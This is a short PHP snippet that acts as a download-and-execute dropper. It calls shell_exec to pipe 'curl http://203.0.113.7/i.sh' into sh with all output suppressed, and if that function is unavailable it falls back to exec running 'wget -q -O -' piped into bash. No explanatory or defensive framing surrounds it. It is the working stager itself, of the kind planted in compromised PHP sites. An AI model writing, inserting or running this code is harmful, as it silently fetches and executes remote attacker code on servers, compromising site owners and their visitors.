<?php
if (function_exists('shell_exec')) {
    shell_exec('curl -fsSL http://203.0.113.7/i.sh | sh > /dev/null 2>&1');
} else {
    exec('wget -q -O - http://203.0.113.7/i.sh | bash');
}
